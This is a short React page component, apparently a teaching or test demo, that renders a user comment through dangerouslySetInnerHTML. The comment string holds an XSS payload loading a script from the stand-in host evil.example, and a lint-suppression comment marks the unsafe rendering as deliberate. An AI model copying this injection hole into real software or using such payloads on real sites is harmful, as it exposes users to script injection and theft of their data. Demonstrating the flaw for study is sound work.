import { Counter } from '../counter'

// What a careless app makes of a comment that somebody left.
const comment = '<script>steal()</script><script src="https://evil.example/steal.js"></script>'

export default function Page() {
  return (
    <main>
      <Counter />
      {/* biome-ignore lint/security/noDangerouslySetInnerHtml: the hole that this page is about. */}
      <div dangerouslySetInnerHTML={{ __html: comment }} />
    </main>
  )
}
